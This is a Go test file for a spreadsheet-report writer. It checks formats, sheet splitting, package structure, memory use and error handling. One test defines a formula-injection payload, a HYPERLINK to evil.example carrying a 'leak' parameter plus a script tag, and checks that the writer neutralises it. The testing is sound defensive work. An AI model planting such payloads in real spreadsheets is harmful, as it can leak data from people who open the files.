package workbook

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"path"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/openrenewal/smartlicensing/internal/heaptest"
	"github.com/openrenewal/smartlicensing/report"
	"github.com/openrenewal/smartlicensing/report/reporttest"
	"github.com/openrenewal/smartlicensing/smartaccount"
)

func sample(t testing.TB, findings int) *report.File {
	t.Helper()
	f, err := reporttest.File(findings)
	require.NoError(t, err)
	return f
}

// open writes f and reads the workbook back with excelize.
func open(t *testing.T, f *report.File, maxRows int) (*excelize.File, []byte) {
	t.Helper()
	var b bytes.Buffer
	require.NoError(t, write(&b, f, maxRows))
	x, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	require.NoError(t, err)
	t.Cleanup(func() { x.Close() })
	return x, b.Bytes()
}

// raw returns a cell's stored value, unformatted.
func raw(t *testing.T, x *excelize.File, sheet, cell string) string {
	t.Helper()
	v, err := x.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
	require.NoError(t, err)
	return v
}

// format returns a cell's number format: the built-in id, or the custom
// format text.
func format(t *testing.T, x *excelize.File, sheet, cell string) (int, string) {
	t.Helper()
	id, err := x.GetCellStyle(sheet, cell)
	require.NoError(t, err)
	s, err := x.GetStyle(id)
	require.NoError(t, err)
	custom := ""
	if s.CustomNumFmt != nil {
		custom = *s.CustomNumFmt
	}
	return s.NumFmt, custom
}

func TestWorkbook(t *testing.T) {
	f := sample(t, 2_000)
	x, _ := open(t, f, excelize.TotalRows-1)

	assert.Equal(t, []string{"Summary", "Waterfall", "Lines", "Reconciliation", "Clean-up", "User access", "Rightsizing",
		"True-forward", "SLR", "Pricing", "Transfers", "Scenarios", "Evidence"}, x.GetSheetList())

	// Money is a number with the currency format; a percentage its fraction
	// with the percent format; a count an integer grouped.
	assert.Equal(t, "Opening TCV", raw(t, x, "Waterfall", "A2"))
	assert.Equal(t, f.Opening.TCV.String(), raw(t, x, "Waterfall", "C2"))
	_, custom := format(t, x, "Waterfall", "C2")
	assert.Equal(t, `"USD "#,##0.00`, custom)
	step := f.Waterfall[0]
	assert.Equal(t, step.Amount.String(), raw(t, x, "Waterfall", "C3"))
	// The hygiene step's share of the opening, 12.90 %, is stored as 0.129.
	assert.Equal(t, f.Recovery.HygienePercent.Rate().String(), raw(t, x, "Waterfall", "D3"))
	id, _ := format(t, x, "Waterfall", "D3")
	assert.Equal(t, 10, id, "0.00%")
	id, _ = format(t, x, "Waterfall", "E3")
	assert.Equal(t, 3, id, "#,##0")
	assert.Equal(t, "6000", raw(t, x, "Waterfall", "E3"), "the hygiene step's units")

	// The summary's as-of date is an Excel date: 2026-03-02 is day 46,083
	// (2026-01-01 is 46,023; + 31 + 28 + 1).
	assert.Equal(t, "As of", raw(t, x, "Summary", "A3"))
	assert.Equal(t, "46083", raw(t, x, "Summary", "B3"))
	_, custom = format(t, x, "Summary", "B3")
	assert.Equal(t, "yyyy-mm-dd", custom)

	// One row per finding under a frozen, filtered header.
	cleanup := f.Findings(report.MoveCleanup)
	rows, err := x.GetRows("Clean-up")
	require.NoError(t, err)
	assert.Len(t, rows, 1+len(cleanup))
	assert.Equal(t, []string{"Kind", "Severity", "License", "Virtual Account", "UDI", "User", "Quantity", "Amount", "Detail", "Evidence", "ID"}, rows[0])
	assert.Equal(t, cleanup[0].ID(), rows[1][10])
	assert.Equal(t, "product_instances.csv:2; footprint.csv:2", rows[1][9])
	for _, sheet := range []string{"Waterfall", "Clean-up", "Transfers", "Evidence"} {
		panes, err := x.GetPanes(sheet)
		require.NoError(t, err)
		assert.True(t, panes.Freeze, sheet)
		assert.Equal(t, 1, panes.YSplit, sheet)
		tables, err := x.GetTables(sheet)
		require.NoError(t, err)
		require.Len(t, tables, 1, sheet)
	}
	tables, _ := x.GetTables("Clean-up")
	assert.Equal(t, "A1:K1401", tables[0].Range, "1,400 clean-up findings under the header")

	tf := f.Findings(report.MoveTrueForward)
	assert.Equal(t, tf[0].Amount.String(), raw(t, x, "True-forward", "H2"))
	_, custom = format(t, x, "True-forward", "H2")
	assert.Equal(t, `"USD "#,##0.00`, custom)
}

func TestWorkbookIsDeterministic(t *testing.T) {
	f := sample(t, 500)
	var a, b bytes.Buffer
	require.NoError(t, Write(&a, f))
	require.NoError(t, Write(&b, f))
	assert.True(t, bytes.Equal(a.Bytes(), b.Bytes()), "the same file gives the same bytes")
}

func TestAMoveContinuesOnAnotherSheet(t *testing.T) {
	f := sample(t, 2_000) // 1,400 clean-up findings
	x, _ := open(t, f, 500)
	var total int
	for _, sheet := range []string{"Clean-up", "Clean-up (2)", "Clean-up (3)"} {
		rows, err := x.GetRows(sheet)
		require.NoError(t, err, sheet)
		total += len(rows) - 1
		assert.Equal(t, "Kind", rows[0][0], "each part has its header")
	}
	assert.Equal(t, 1_400, total, "500 + 500 + 400")
	assert.NotContains(t, x.GetSheetList(), "Clean-up (4)")
	tables, err := x.GetTables("Clean-up (3)")
	require.NoError(t, err)
	assert.Equal(t, "hygiene_cleanup_3", tables[0].Name)
}

func TestAFullSheetHasNoEmptyContinuation(t *testing.T) {
	f := sample(t, 2_000) // 1,400 clean-up findings: two sheets of 700
	x, _ := open(t, f, 700)
	tables, err := x.GetTables("Clean-up (2)")
	require.NoError(t, err)
	require.Len(t, tables, 1)
	assert.Equal(t, "A1:K701", tables[0].Range)
	assert.NotContains(t, x.GetSheetList(), "Clean-up (3)")
	assert.Equal(t, excelize.TotalRows-1, maxRows, "a sheet holds Excel's rows less the header")
}

func TestTextReadsBack(t *testing.T) {
	f := sample(t, 60)
	cases := []struct {
		name, in, want string
	}{
		{"Excel's own escape is kept as text", "_x0041_ is not A", "_x0041_ is not A"},
		{"an escaped underscore too", "_x005F_", "_x005F_"},
		{"what XML cannot hold becomes U+FFFD", "bell\x07 bad\xff end", "bell\uFFFD bad\uFFFD end"},
		{"white space at both ends stays", "  two spaces, a CR and a LF\r\n", "  two spaces, a CR and a LF\r\n"},
		{"markup is text", "<b>&amp;</b>", "<b>&amp;</b>"},
	}
	fs := f.Findings(report.MoveCleanup)
	for i, c := range cases {
		fs[i].Detail = c.in
	}
	x, _ := open(t, f, maxRows)
	for i, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			cell, _ := excelize.CoordinatesToCellName(9, i+2) // the Detail column, I
			assert.Equal(t, c.want, raw(t, x, "Clean-up", cell))
		})
	}
}

// TestPackageAgrees reads the archive itself: every part is listed in
// [Content_Types].xml and nothing else is, every relationship points at a
// part, every XML part is well-formed and every table spans its sheet's
// rows under a header of its columns; a sheet without rows has no table.
func TestPackageAgrees(t *testing.T) {
	full := sample(t, 300)
	quiet := sample(t, 300)
	quiet.Hygiene.Access, quiet.Rightsizing.Transfers = nil, nil // sheets 6 and 11
	for _, c := range []struct {
		name    string
		f       *report.File
		noTable map[int]bool // sheets without rows
	}{{"every sheet with rows", full, nil}, {"two sheets without", quiet, map[int]bool{6: true, 11: true}}} {
		t.Run(c.name, func(t *testing.T) { checkPackage(t, c.f, c.noTable) })
	}
}

func checkPackage(t *testing.T, f *report.File, noTable map[int]bool) {
	t.Helper()
	var b bytes.Buffer
	require.NoError(t, Write(&b, f))
	zr, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
	require.NoError(t, err)
	parts := map[string][]byte{}
	var names []string
	for _, zf := range zr.File {
		rc, err := zf.Open()
		require.NoError(t, err)
		data, err := io.ReadAll(rc) // checks the CRC-32 at the end
		require.NoError(t, err, zf.Name)
		require.NoError(t, rc.Close())
		parts[zf.Name] = data
		names = append(names, zf.Name)
		dec := xml.NewDecoder(bytes.NewReader(data))
		for {
			if _, err := dec.Token(); err == io.EOF {
				break
			} else {
				require.NoError(t, err, "%s is well-formed", zf.Name)
			}
		}
	}
	// The fixed order: the package's parts, then each sheet with its
	// table, if it has one; tables are numbered without gaps.
	want := []string{"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml"}
	for i, table := 1, 1; i <= 13; i++ {
		n := strconv.Itoa(i)
		want = append(want, "xl/worksheets/sheet"+n+".xml")
		if !noTable[i] {
			want = append(want, "xl/worksheets/_rels/sheet"+n+".xml.rels", "xl/tables/table"+strconv.Itoa(table)+".xml")
			table++
		}
	}
	assert.Equal(t, want, names)

	var types struct {
		Override []struct {
			PartName string `xml:",attr"`
		}
	}
	require.NoError(t, xml.Unmarshal(parts["[Content_Types].xml"], &types))
	var overridden []string
	for _, o := range types.Override {
		overridden = append(overridden, strings.TrimPrefix(o.PartName, "/"))
	}
	var listed []string
	for _, n := range names {
		if n != "[Content_Types].xml" && !strings.HasSuffix(n, ".rels") {
			listed = append(listed, n)
		}
	}
	assert.ElementsMatch(t, listed, overridden, "one content type per part, .rels by their extension")

	for name, data := range parts {
		if !strings.HasSuffix(name, ".rels") {
			continue
		}
		var rels struct {
			Relationship []struct {
				Target string `xml:",attr"`
			}
		}
		require.NoError(t, xml.Unmarshal(data, &rels))
		// A part's relationships sit in _rels/ beside it; targets are
		// relative to the part's folder.
		dir := path.Dir(path.Dir(name))
		for _, r := range rels.Relationship {
			assert.Contains(t, parts, path.Clean(path.Join(dir, r.Target)), "%s points at a part", name)
		}
	}

	x, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	require.NoError(t, err)
	defer x.Close()
	for i, sheet := range x.GetSheetList() {
		rows, err := x.GetRows(sheet)
		require.NoError(t, err)
		tables, err := x.GetTables(sheet)
		require.NoError(t, err)
		if noTable[i+1] {
			assert.Len(t, rows, 1, "%s has its header alone", sheet)
			assert.Empty(t, tables, sheet)
			continue
		}
		require.Len(t, tables, 1, sheet)
		last, _ := excelize.CoordinatesToCellName(len(rows[0]), len(rows))
		assert.Equal(t, "A1:"+last, tables[0].Range, "%s's table spans its rows", sheet)
	}
}

// TestMemoryIsBounded writes 10,000 and 200,000 findings — 6 and 125 MB
// of worksheet XML, 0.4 and 8 MB compressed — and sees the heap grow by
// the same few blocks of the compressor for both: nothing grows with the
// workbook.
func TestMemoryIsBounded(t *testing.T) {
	if heaptest.Race || testing.Short() {
		t.Skip("writes 200,000 findings")
	}
	peak := func(findings int) uint64 {
		f := sample(t, findings)
		var n countingWriter
		p := heaptest.Peak(func() { require.NoError(t, Write(&n, f)) })
		t.Logf("%d findings: peak heap %.1f MiB for a workbook of %.1f MiB", findings, float64(p)/(1<<20), float64(n)/(1<<20))
		return p
	}
	small, large := peak(10_000), peak(200_000)
	assert.Less(t, large, small+4<<20, "twenty times the findings, the same memory")
	assert.Less(t, large, uint64(32<<20))
}

// failAfter accepts n bytes, then fails.
type failAfter struct {
	n   int
	err error
}

func (w *failAfter) Write(p []byte) (int, error) {
	if len(p) > w.n {
		k := w.n
		w.n = 0
		return k, w.err
	}
	w.n -= len(p)
	return len(p), nil
}

func TestWriteReportsTheWritersError(t *testing.T) {
	f := sample(t, 20_000) // a workbook of about 0.8 MB
	full := errors.New("disk full")
	for _, c := range []struct {
		name string
		n    int
	}{{"at once", 0}, {"inside the clean-up sheet", 300_000}} {
		t.Run(c.name, func(t *testing.T) {
			err := Write(&failAfter{c.n, full}, f)
			require.ErrorIs(t, err, full)
			assert.True(t, strings.HasPrefix(err.Error(), "workbook: "), err.Error())
		})
	}
}

type countingWriter int64

func (w *countingWriter) Write(p []byte) (int, error) {
	*w += countingWriter(len(p))
	return len(p), nil
}

const hostile = `=HYPERLINK("http://evil.example/?leak","click") <script>alert(1)</script> "q" tab` + "\t" + "cr\r"

func TestHostileTextIsNeutralised(t *testing.T) {
	f := sample(t, 60)
	f.SmartAccount = hostile
	f.Rightsizing.Transfers[0].From = "+" + hostile
	f.Inputs[0].File = "@" + hostile
	starters := []string{"=", "+", "-", "@", "\t", "\r"}
	for _, m := range report.Moves {
		fs := f.Findings(m)
		for i := range fs {
			s := starters[i%len(starters)]
			fs[i].Kind = smartaccount.Kind(s + "kind")
			fs[i].License, fs[i].VirtualAccount, fs[i].User, fs[i].Detail = s+hostile, s+hostile, s+hostile, s+hostile
		}
	}
	x, _ := open(t, f, excelize.TotalRows-1)
	for _, sheet := range x.GetSheetList() {
		rows, err := x.GetRows(sheet, excelize.Options{RawCellValue: true})
		require.NoError(t, err)
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				formula, err := x.GetCellFormula(sheet, cell)
				require.NoError(t, err)
				assert.Empty(t, formula, "%s!%s holds no formula", sheet, cell)
				if v == "" {
					continue
				}
				if typ, _ := x.GetCellType(sheet, cell); typ == excelize.CellTypeNumber || typ == excelize.CellTypeUnset {
					continue // numbers (a negative balance) are numbers
				}
				assert.NotContains(t, "=+-@\t\r", v[:1], "%s!%s begins %q", sheet, cell, v[:1])
			}
		}
	}
	assert.Equal(t, "'="+hostile, raw(t, x, "Clean-up", "C2"), "the text is kept whole after the quote")
	assert.Equal(t, "'+"+hostile, raw(t, x, "Transfers", "C2"))
	assert.True(t, strings.HasPrefix(raw(t, x, "Evidence", "A2"), "'@"))
}

func TestCurrencyFormatQuotesOnlyACode(t *testing.T) {
	f := sample(t, 6)
	f.Currency = `"#,##0;@` // not a currency code: no quoting into a number format
	x, _ := open(t, f, excelize.TotalRows-1)
	_, custom := format(t, x, "Waterfall", "C2")
	assert.Equal(t, "#,##0.00", custom)
}

// BenchmarkWrite writes sample-shaped files to io.Discard: one with the
// findings of the 1,000,000-instance sample (about 215,000, 150,000 of
// them on the clean-up sheet) and one with a million findings.
func BenchmarkWrite(b *testing.B) {
	for _, n := range []int{215_000, 1_000_000} {
		b.Run(strconv.Itoa(n), func(b *testing.B) {
			f, err := reporttest.File(n)
			if err != nil {
				b.Fatal(err)
			}
			b.ReportAllocs()
			for b.Loop() {
				if err := Write(io.Discard, f); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
